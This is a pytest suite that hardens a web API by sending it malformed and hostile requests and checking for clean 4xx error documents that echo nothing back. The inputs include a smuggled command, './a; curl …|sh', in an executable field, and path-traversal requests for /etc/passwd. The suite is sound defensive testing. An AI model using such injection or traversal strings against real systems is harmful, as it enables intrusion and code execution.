"""What no honest client sends is answered with 4xx, says what is wrong, and repeats nothing."""

from __future__ import annotations

from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from starlette.testclient import TestClient

from modak.api import create_app
from modak.settings import Settings

JSON = {"Content-Type": "application/json"}
MARK = "s3cretmark"


@pytest.mark.parametrize("path", ["/optimise", "/recommendations", "/get_image", "/get_build", "/get_optimisation", "/predictions"])
@pytest.mark.parametrize(
    "body",
    [
        b"",
        b"{",
        b"[1]",
        b"null",
        b'"text"',
        b"NaN",
        b'{"job": {"job_options": {"node_count": NaN}}}',
        b'{"job": {"job_options": {"node_count": Infinity}}}',
        b'{"job": {"job_options": {"node_count": 1e999}}}',
        b'{"job": {"application": {"app_tag": "\\ud800"}}}',
        b'{"job": {"application": {"app_tag": "a\\u0000b"}}}',
        b'{"job": {}, "job": {}}',
        b'{"job": {"job_options": {"node_count": ' + b"9" * 5000 + b"}}}",
        b'{"a":' * 100_000,
        b"[" * 1000 + b"]" * 1000,
        b"\xff\xfe{\x00}\x00",
        b"\xef\xbb\xbf{}",
        b'{"job": {"job_options": {"job_name": "s3cretmark\\nx"}}}',
        b'{"job": []}',
        b'{"job": {"application": 5}}',
        b'{"job": {"application": {"executable": "./a; curl s3cretmark|sh"}}}',
    ],
)
def test_a_hostile_body_is_refused(web: TestClient, path: str, body: bytes) -> None:
    """400 or 422 with a field and a message; what was sent is not in the answer."""
    answer = web.post(path, content=body, headers=JSON)
    assert answer.status_code in (400, 409, 422), answer.text
    assert answer.headers["content-type"] == "application/problem+json"
    assert answer.json()["errors"]
    assert MARK not in answer.text


@pytest.fixture(scope="module")
def narrow(packaged_database: Path) -> Iterator[TestClient]:
    """A service that reads at most a kilobyte."""
    with TestClient(create_app(Settings(database_url=f"sqlite:///{packaged_database}", max_body_bytes=1024))) as client:
        yield client


@pytest.mark.parametrize("length", ["1025", "9" * 30, "-1", "long"])
def test_a_body_beyond_the_limit_is_413_by_its_declared_length(narrow: TestClient, length: str) -> None:
    """Before anything of it is read; what is no length may be any."""
    assert narrow.post("/optimise", content=b"{}", headers=JSON | {"Content-Length": length}).status_code == 413


@pytest.mark.parametrize("kind", ["text/plain", "application/x-www-form-urlencoded", "multipart/form-data; boundary=x"])
def test_another_type_is_415(web: TestClient, document: dict[str, Any], kind: str) -> None:
    """A form of another site's page cannot ask."""
    assert web.post("/optimise", content=b"{}", headers={"Content-Type": kind}).status_code == 415


@pytest.mark.parametrize(
    ("method", "path", "status"),
    [
        ("GET", "/nothing", 404),
        ("GET", "/optimise", 405),
        ("PATCH", "/systems", 401),
        ("POST", "/optimize", 404),
        ("GET", "/plans/../../etc/passwd", 404),
        ("GET", "/plans/%2e%2e%2fetc%2fpasswd", 404),
        ("GET", "/plans/" + "x" * 5000, 422),
        ("GET", "/results?limit=0", 422),
        ("GET", "/results?limit=many", 422),
        ("GET", "/results?limit=1&limit=2", 422),
        ("GET", "/results?cursor=x", 422),
        ("GET", "/results?sytem=zenith", 422),
        ("GET", "/results?sytem%0A%1b[31m" + "x" * 3000 + "=zenith", 422),
        ("GET", "/systems?limit=100000", 422),
        ("GET", "/systems?page=2", 422),
        ("GET", "/models?application=solver", 422),
        ("GET", "/systems/%00", 400),
        ("GET", "/results?application=%00", 400),
        ("GET", "/results?application=%ff", 200),
        ("GET", "/schema/nothing", 404),
        ("POST", "/predictions?level=nan", 422),
        ("POST", "/predictions?level=1", 422),
        ("POST", "/optimise?strict=perhaps", 422),
        ("POST", "/optimise?stric%0A%1b[31m=true", 422),
        ("POST", "/sizings?strict=true&strict=false", 422),
    ],
)
def test_an_address_that_is_wrong_is_a_problem_document(web: TestClient, method: str, path: str, status: int) -> None:
    """4xx, never 5xx; in the one shape of errors."""
    answer = web.request(method, path)
    assert answer.status_code == status, answer.text
    if status != 200:
        assert answer.headers["content-type"] == "application/problem+json"
        assert set(answer.json()) >= {"type", "title", "status", "detail", "errors"}
        assert answer.json()["detail"].isprintable()
        assert len(answer.json()["detail"]) < 1000


def test_a_fault_of_ours_says_nothing_about_us() -> None:
    """500 with one sentence, and the headers of every answer; no trace, no path, no value."""

    def broken() -> None:
        raise RuntimeError(MARK)

    app = create_app(Settings(database_url="sqlite:///unused.db", browser_origins="https://ide.example.org"))
    app.state.service = broken
    answer = TestClient(app, raise_server_exceptions=False).get("/systems", headers={"Origin": "https://ide.example.org"})
    assert answer.status_code == 500
    assert {"x-request-id", "access-control-allow-origin"} <= set(answer.headers)
    assert MARK not in answer.text
    assert "Traceback" not in answer.text
